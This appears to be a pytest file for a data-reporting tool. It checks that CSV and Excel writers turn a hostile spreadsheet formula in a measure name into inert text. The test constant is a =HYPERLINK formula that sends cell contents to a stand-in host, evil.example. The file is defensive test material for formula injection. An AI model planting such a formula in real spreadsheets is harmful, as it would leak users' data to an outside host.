"""Every CSV and workbook pprr writes is inert: a text cell that would run as a formula is
text (issue 13). Each writer gets the ``=HYPERLINK(...)`` measure name and is opened with
openpyxl (no formula cell) and read as CSV (a leading apostrophe), and reading back gives
the original text."""

from __future__ import annotations

import csv
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from pprr_utils.batch import cli
from pprr_utils.dataset.load import load_dataset, write_excel
from pprr_utils.dataset.score import scorecard, write_scorecard
from pprr_utils.dataset.writing import FORMULA_TRIGGERS, restore_frame

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"click")'
NAME = "Percentage of mothers smoking at delivery (number)"


@pytest.fixture()
def hostile_data(data_copy: Path) -> Path:
    """data/ with CFSE.1's name replaced by a formula (in 2021/22 Q2's framework)."""
    f = data_copy / "measures.csv"
    text = f.read_text(encoding="utf-8")
    assert NAME in text
    f.write_text(text.replace(NAME, HOSTILE.replace('"', '""').join('""'), 1), encoding="utf-8")
    return data_copy


def _no_formulas(path: Path) -> list[str]:
    wb = openpyxl.load_workbook(path)
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    return [c.value for c in cells if isinstance(c.value, str)]


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def _csv_cells(path: Path) -> list[str]:
    with open(path, encoding="utf-8", newline="") as fh:
        cells = [cell for row in csv.reader(fh) for cell in row]
    live = [c for c in cells if c.startswith(FORMULA_TRIGGERS) and not _number(c)]
    assert not live, "a live cell"  # numbers (-1.3) stay numbers
    return cells


def test_the_data_loads_the_hostile_name_as_text(hostile_data: Path) -> None:
    ds = load_dataset(hostile_data)
    assert HOSTILE in ds.measures["name"].tolist()


def test_scorecard_csv_is_inert_and_reads_back(hostile_data: Path, tmp_path: Path) -> None:
    card = scorecard(load_dataset(hostile_data), "2021/22 Q2")
    path = write_scorecard(card, tmp_path / "card.csv")
    assert "'" + HOSTILE in _csv_cells(path)
    back = restore_frame(pd.read_csv(path, dtype=str, keep_default_na=False))
    assert HOSTILE in back["name"].tolist()
    assert (back["value"] != "").any()  # numbers stay numbers: no apostrophe on a figure
    assert not back["value"].str.startswith("'").any()


def test_scorecard_xlsx_has_no_formula(hostile_data: Path, tmp_path: Path) -> None:
    card = scorecard(load_dataset(hostile_data), "2021/22 Q2")
    path = write_scorecard(card, tmp_path / "card.xlsx")
    assert HOSTILE in _no_formulas(path)
    back = pd.read_excel(path, sheet_name="scorecard")
    assert back["value"].dtype == "float64"


def test_cli_scorecard_to_stdout_is_inert(hostile_data: Path, capsys) -> None:
    assert cli.main(["scorecard", "2021/22 Q2", "--data", str(hostile_data)]) == 0
    out = capsys.readouterr().out
    assert "'" + HOSTILE.replace('"', '""') in out
    assert "\n=" not in out and ",=" not in out


def test_batch_scorecard_csv_is_inert(hostile_data: Path, tmp_path: Path) -> None:
    from pprr_utils.batch.extras import write_scorecard_csv

    path = tmp_path / "scorecard.csv"
    write_scorecard_csv(load_dataset(hostile_data), "2021/22 Q2", path)
    assert "'" + HOSTILE in _csv_cells(path)


def test_to_excel_is_inert_and_loads_back_the_original(hostile_data: Path, tmp_path: Path) -> None:
    out = tmp_path / "data.xlsx"
    assert cli.main(["to-excel", str(hostile_data), str(out)]) == 0
    assert HOSTILE in _no_formulas(out)
    assert HOSTILE in load_dataset(out).measures["name"].tolist()


def test_a_csv_pprr_wrote_loads_back_the_original(hostile_data: Path) -> None:
    """A data CSV written by write_csv (apostrophe) loads as the original text."""
    from pprr_utils.dataset.writing import write_csv

    f = hostile_data / "measures.csv"
    write_csv(pd.read_csv(f, dtype=str, keep_default_na=False), f)
    assert "'" + HOSTILE in _csv_cells(f)
    assert HOSTILE in load_dataset(hostile_data).measures["name"].tolist()


def test_to_excel_refuses_a_name_that_is_not_xlsx(data_copy: Path, tmp_path: Path, capsys) -> None:
    out = tmp_path / "o.csv"
    assert cli.main(["to-excel", str(data_copy), str(out)]) != 0
    err = capsys.readouterr().err
    assert "o.csv" in err and ".xlsx" in err and "Traceback" not in err
    assert not out.exists()


def test_to_excel_of_a_missing_folder_writes_nothing(tmp_path: Path, capsys) -> None:
    out = tmp_path / "o.xlsx"
    assert cli.main(["to-excel", str(tmp_path / "nowhere"), str(out)]) != 0
    assert "no such folder" in capsys.readouterr().err
    assert not out.exists() and list(tmp_path.iterdir()) == []


def test_to_excel_failing_on_cp1252_keeps_the_previous_workbook(
    data_copy: Path, tmp_path: Path, capsys
) -> None:
    out = write_excel(data_copy, tmp_path / "data.xlsx")
    sheets = openpyxl.load_workbook(out).sheetnames
    before = out.read_bytes()
    (data_copy / "commentary.csv").write_bytes("code,text\nX,Stockport’s\n".encode("cp1252"))
    assert cli.main(["to-excel", str(data_copy), str(out)]) != 0
    assert "commentary.csv" in capsys.readouterr().err
    assert out.read_bytes() == before
    assert openpyxl.load_workbook(out).sheetnames == sheets
    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".")] == []
